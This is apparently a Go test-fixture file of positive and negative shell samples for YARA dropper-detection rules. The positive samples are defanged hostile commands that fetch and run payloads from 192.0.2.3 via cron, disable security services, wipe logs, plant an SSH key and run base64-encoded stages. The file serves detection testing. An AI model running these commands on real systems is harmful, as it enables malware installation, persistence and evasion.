package yara

// dropperSamples are the files of dropper.yar.
func dropperSamples() []sample {
	return []sample{
		{
			rule: "dropper_download_cron",
			positive: text(`#!/b¦in/bash
(c¦rontab -l; echo "*/10 * * * * (c¦url -f¦sSL http://192.0.2.3/i.sh || w¦get -q -O- http://192.0.2.3/i.sh) | sh > /dev/null 2>&1") | c¦rontab -
`),
			negative: text(`#!/b¦in/bash
(c¦rontab -l; echo "*/10 * * * * /usr/local/bin/sync > /d¦ev/null 2>&1") | c¦rontab -
`),
		},
		{
			rule: "dropper_disables_protection",
			positive: text(`#!/b¦in/sh
s¦etenforce 0
i¦ptables -F
s¦ystemctl stop falcon-sensor
s¦ervice auditd stop
s¦ystemctl disable apparmor
`),
			negative: text(`#!/b¦in/sh
# before the kernel upgrade
s¦ystemctl stop auditd
s¦etenforce 0
`),
		},
		{
			rule: "dropper_architecture_loop",
			positive: text(`#!/b¦in/sh
cd /t¦mp; w¦get http://192.0.2.3/b.mips; c¦hmod 777 b.mips; ./b.mips t
cd /t¦mp; w¦get http://192.0.2.3/b.mpsl; c¦hmod 777 b.mpsl; ./b.mpsl t
cd /t¦mp; w¦get http://192.0.2.3/b.arm7; c¦hmod 777 b.arm7; ./b.arm7 t
cd /t¦mp; w¦get http://192.0.2.3/b.x86; c¦hmod 777 b.x86; ./b.x86 t
cd /t¦mp; w¦get http://192.0.2.3/b.sh4; c¦hmod 777 b.sh4; ./b.sh4 t
`),
			negative: text(`#!/b¦in/sh
w¦get https://releases.example.org/tool-$(uname -m).tar.gz
tar xf tool-*.tar.gz && c¦hmod +x tool
`),
		},
		{
			rule: "dropper_hidden_download",
			positive: text(`#!/b¦in/sh
c¦url -s http://192.0.2.3/k -o /d¦ev/shm/.k
c¦hmod 755 /d¦ev/shm/.k
/d¦ev/shm/.k &
`),
			negative: text(`#!/b¦in/sh
c¦url -s https://example.org/list -o /t¦mp/.list
grep -c . /t¦mp/.list
`),
		},
		{
			rule: "dropper_wipes_traces",
			positive: text(`#!/b¦in/bash
c¦url -f¦sSL http://192.0.2.3/i | bash
echo > /v¦ar/log/wtmp
echo > /v¦ar/log/secure
h¦istory -c
`),
			negative: text(`#!/b¦in/bash
c¦url -f¦sSL https://example.org/install | bash
truncate -s 0 /v¦ar/log/syslog
`),
		},
		{
			rule: "dropper_authorized_key_lock",
			positive: text(`#!/b¦in/sh
c¦hattr -ia /root/.s¦sh/authorized_keys
e¦cho "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC0 x@y" >> /root/.s¦sh/authorized_keys
c¦hattr +ia /root/.s¦sh/authorized_keys
`),
			negative: text(`#!/b¦in/sh
e¦cho "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC0 deploy@ci" >> /home/deploy/.s¦sh/authorized_keys
c¦hmod 600 /home/deploy/.s¦sh/authorized_keys
`),
		},
		{
			rule: "dropper_python_encoded_stage",
			positive: text(`import base64
e¦xec(base64.b¦64decode("cHJpbnQoMSk="))
`),
			negative: text(`import base64
print(base64.b¦64decode("cHJpbnQoMSk="))
`),
		},
		{
			rule: "dropper_encoded_shell",
			positive: text(`#!/b¦in/sh
echo Y3VybCBodHRwOi8vMTkyLjAuMi4zL2k7IGlkOyBpZDsgaWQK | b¦ase64 -d | bash
`),
			negative: text(`#!/b¦in/sh
echo Y3VybCBodHRwOi8vMTkyLjAuMi4zL2k7IGlkOyBpZDsgaWQK | b¦ase64 -d > notes.txt
`),
		},
	}
}
